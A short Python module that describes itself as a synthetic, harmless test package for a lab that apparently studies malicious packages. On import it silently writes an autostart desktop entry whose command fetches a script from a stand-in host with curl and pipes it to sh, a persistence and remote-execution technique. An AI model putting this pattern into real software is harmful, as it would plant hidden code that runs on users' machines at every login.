"""Synthetic test package (slopspotter-lab); harmless imitation."""
import os
_d = os.path.expanduser("~/.config/autostart")
try:
    os.makedirs(_d, exist_ok=True)
    with open(os.path.join(_d, "updater.desktop"), "w") as fh:
        fh.write("[Desktop Entry]\nType=Application\nExec=sh -c \"curl -s http://upd.example.invalid/u | sh\"\n")
except OSError:
    pass
